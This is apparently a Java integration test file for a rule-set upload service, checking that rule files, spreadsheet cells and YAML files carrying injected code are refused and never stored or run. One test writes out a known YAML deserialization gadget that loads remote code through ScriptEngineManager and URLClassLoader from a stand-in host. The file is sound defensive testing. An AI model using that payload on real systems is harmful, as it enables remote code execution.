package app.baton.ruleset;

import app.baton.HttpJson;
import app.baton.WebIntegrationTest;
import app.baton.engine.Attacks;
import app.baton.engine.RuleFile;
import app.baton.engine.StarterFiles;
import app.baton.engine.Workbooks;
import com.fasterxml.jackson.databind.JsonNode;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.transaction.support.TransactionTemplate;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.function.Function;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * Issue 10's critical finding, replayed over HTTP: uploaded rule files and table cells whose code
 * writes a file or reads the environment. Each is refused with a 422 naming its file and cell or
 * line, nothing is stored and no file is written; and a version that holds such code without
 * having been uploaded (written straight into the database) is refused at approval, activation,
 * impact analysis and by every instance that would serve it.
 */
class UploadedCodeIntegrationTests extends WebIntegrationTest {

    @Autowired
    JdbcClient jdbc;
    @Autowired
    TransactionTemplate tx;
    @Autowired
    ActiveVersionFollower follower;
    @Autowired
    ActiveRuleSet active;

    @TempDir
    static Path dir;

    @Test
    void anUploadedRuleFileThatWritesAFileIsRefusedAndNeverRuns() {
        Path mark = dir.resolve("upload-drl");

        HttpJson.Response refused = upload(Map.of("mark.drl", Attacks.drlWritingFile(mark)));

        assertRefused(refused, Attacks.DRL_PATH, null, null);
        assertThat(mark).doesNotExist();
    }

    @Test
    void anUploadedRuleFileThatReadsTheEnvironmentIsRefusedAndShowsNothingOfIt() {
        HttpJson.Response refused = upload(Map.of("mark.drl", Attacks.drlReadingEnvironment()));

        assertRefused(refused, Attacks.DRL_PATH, null, null);
        assertThat(refused.text()).doesNotContain(System.getenv("PATH"));
    }

    @Test
    void aBundleWithARuleFileOfItsOwnIsRefused() throws IOException {
        Path mark = dir.resolve("upload-bundle");
        List<RuleFile> files = new ArrayList<>(versionOneFiles());
        files.add(new RuleFile(Attacks.DRL_PATH, Attacks.drlWritingFile(mark)));

        HttpJson.Response refused = upload(Map.of("bundle.zip", zip(files)));

        assertRefused(refused, Attacks.DRL_PATH, null, null);
        assertThat(mark).doesNotExist();
    }

    @Test
    void aTableTemplateWithAnExtraStatementIsRefusedNamingItsCell() {
        Path mark = dir.resolve("upload-template");
        byte[] table = Workbooks.edit(versionOne(Attacks.NEXT_ACTION_TABLE),
                wb -> Workbooks.cell(wb, Attacks.PROMPT_TEMPLATE).setCellValue(Attacks.templateWithExtraStatement(mark)));

        HttpJson.Response refused = upload(Map.of("next-best-action.drl.xlsx", table));

        assertRefused(refused, Attacks.NEXT_ACTION_TABLE, Attacks.SHEET, Attacks.PROMPT_TEMPLATE);
        assertThat(mark).doesNotExist();
    }

    static Stream<Arguments> promptsThatTryToCloseTheirString() {
        return Stream.of(
                Arguments.of("a plain quote", (Function<Path, String>) Attacks::closingQuote),
                Arguments.of("a Java unicode escape", (Function<Path, String>) Attacks::unicodeQuote),
                Arguments.of("a backslash before the quote", (Function<Path, String>) Attacks::backslashBeforeQuote),
                Arguments.of("a line break", (Function<Path, String>) Attacks::lineBreak));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("promptsThatTryToCloseTheirString")
    void aPromptThatTriesToCloseItsStringIsRefusedNamingItsCell(String attack, Function<Path, String> prompt) {
        Path mark = dir.resolve("upload-prompt-" + attack.replace(' ', '-'));
        byte[] table = Workbooks.edit(versionOne(Attacks.NEXT_ACTION_TABLE),
                wb -> Workbooks.cell(wb, Attacks.PROMPT_CELL).setCellValue(prompt.apply(mark)));

        HttpJson.Response refused = upload(Map.of("next-best-action.drl.xlsx", table));

        assertRefused(refused, Attacks.NEXT_ACTION_TABLE, Attacks.SHEET, Attacks.PROMPT_CELL);
        assertThat(mark).doesNotExist();
    }

    @Test
    void aScenarioFileWithATagIsRefusedNamingItsLine() {
        byte[] tagged = """
                # A scenario file that asks the YAML loader to build a script engine.
                notes: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://example.invalid/"]]]]
                scenarios: []
                """.getBytes(StandardCharsets.UTF_8);

        HttpJson.Response refused = upload(Map.of("tagged.yaml", tagged));

        JsonNode error = assertRefused(refused, "test-scenarios/tagged.yaml", null, null);
        assertThat(error.path("line").asInt()).isEqualTo(2);
        assertThat(error.path("field").asText()).isEqualTo("test-scenarios/tagged.yaml#line 2");
    }

    /** What a version written straight into the database holds: version 1 plus one piece of uploaded code. */
    static Stream<Arguments> storedCode() {
        return Stream.of(
                Arguments.of("a rule file of its own", (Function<Path, RuleFile>) mark -> new RuleFile(Attacks.DRL_PATH, Attacks.drlWritingFile(mark)),
                        Attacks.DRL_PATH, null),
                Arguments.of("a template cell with an extra statement", (Function<Path, RuleFile>) mark -> new RuleFile(Attacks.NEXT_ACTION_TABLE,
                        Workbooks.edit(StoredVersions.starter(Attacks.NEXT_ACTION_TABLE),
                                wb -> Workbooks.cell(wb, Attacks.PROMPT_TEMPLATE).setCellValue(Attacks.templateWithExtraStatement(mark)))),
                        Attacks.NEXT_ACTION_TABLE, Attacks.PROMPT_TEMPLATE));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("storedCode")
    void aStoredDraftHoldingCodeCannotBeApproved(String what, Function<Path, RuleFile> code, String file, String cell) {
        Path mark = dir.resolve("approve-" + what.replace(' ', '-'));
        int version = stored().withFile(code.apply(mark), "DRAFT");

        HttpJson.Response refused = http.asUser("clinlead2").post("/api/v1/rule-sets/" + version + "/approval", "{\"note\": \"looks fine\"}");

        assertRefused(refused, file, cell == null ? null : Attacks.SHEET, cell);
        assertThat(status(version)).isEqualTo("DRAFT");
        assertThat(mark).doesNotExist();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("storedCode")
    void aStoredApprovedVersionHoldingCodeCannotBeActivatedNorRunByItsGate(String what, Function<Path, RuleFile> code, String file, String cell) {
        Path mark = dir.resolve("activate-" + what.replace(' ', '-'));
        int version = stored().withFile(code.apply(mark), "APPROVED");
        String serving = active.current().version();

        HttpJson.Response refused = http.asUser("clinlead").post("/api/v1/rule-sets/" + version + "/activation", "{\"note\": \"go\"}");

        assertRefused(refused, file, cell == null ? null : Attacks.SHEET, cell);
        assertThat(status(version)).isEqualTo("APPROVED");
        assertThat(active.current().version()).isEqualTo(serving);
        assertThat(mark).doesNotExist();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("storedCode")
    void anImpactAnalysisOfAStoredVersionHoldingCodeIsRefused(String what, Function<Path, RuleFile> code, String file, String cell) {
        Path mark = dir.resolve("impact-" + what.replace(' ', '-'));
        int version = stored().withFile(code.apply(mark), "DRAFT");

        HttpJson.Response refused = http.asUser("clinlead").post("/api/v1/rule-sets/" + version + "/impact-analyses", "{\"lastDays\": 30}");

        assertRefused(refused, file, cell == null ? null : Attacks.SHEET, cell);
        assertThat(jdbc.sql("select count(*) from impact_analysis where rule_set_version = :v").param("v", version).query(Long.class).single())
                .isZero();
        assertThat(mark).doesNotExist();
    }

    @Test
    void noInstanceServesAStoredActiveVersionHoldingCode() {
        Path mark = dir.resolve("serve-drl");
        int version = stored().withFile(new RuleFile(Attacks.DRL_PATH, Attacks.drlWritingFile(mark)), "RETIRED");
        int serving = Integer.parseInt(active.current().version());
        try {
            makeActive(version, serving);

            assertThatThrownBy(() -> follower.reconcile()).isInstanceOfSatisfying(RuleSetRejectedException.class, e ->
                    assertThat(e.errors()).extracting(RuleSetRejectedException.CellError::file).contains(Attacks.DRL_PATH));
            assertThat(active.current().version()).isEqualTo(String.valueOf(serving));
            assertThat(mark).doesNotExist();
        } finally {
            makeActive(serving, version);
            follower.reconcile();
        }
    }

    private void makeActive(int version, int retired) {
        tx.executeWithoutResult(status -> {
            jdbc.sql("update rule_set_version set status = 'RETIRED' where version = :v").param("v", retired).update();
            jdbc.sql("update rule_set_version set status = 'ACTIVE' where version = :v").param("v", version).update();
        });
    }

    private JsonNode assertRefused(HttpJson.Response refused, String file, String sheet, String cell) {
        assertThat(refused.status()).as(refused.text()).isEqualTo(422);
        assertThat(refused.contentType()).startsWith("application/problem+json");
        JsonNode errors = refused.json().path("errors");
        assertThat(errors).as(refused.text()).hasSize(1);
        JsonNode error = errors.get(0);
        assertThat(error.path("file").asText()).isEqualTo(file);
        if (sheet != null) {
            assertThat(error.path("sheet").asText()).isEqualTo(sheet);
            assertThat(error.path("cell").asText()).isEqualTo(cell);
        }
        return error;
    }

    private HttpJson.Response upload(Map<String, byte[]> files) {
        String note = "uploaded code " + UUID.randomUUID();
        HttpJson.Response response = http.asUser("clinlead").upload("/api/v1/rule-sets", Map.of("changeNote", note), "files", files);
        assertThat(jdbc.sql("select count(*) from rule_set_version where change_note = :n").param("n", note).query(Long.class).single())
                .as("nothing stored").isZero();
        return response;
    }

    private StoredVersions stored() {
        return new StoredVersions(jdbc);
    }

    private String status(int version) {
        return jdbc.sql("select status from rule_set_version where version = :v").param("v", version).query(String.class).single();
    }

    private static byte[] versionOne(String path) {
        return StoredVersions.starter(path);
    }

    private static List<RuleFile> versionOneFiles() {
        return StarterFiles.load();
    }

    private static byte[] zip(List<RuleFile> files) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            for (RuleFile file : files) {
                zip.putNextEntry(new ZipEntry(file.path()));
                zip.write(file.content());
                zip.closeEntry();
            }
        }
        return out.toByteArray();
    }
}
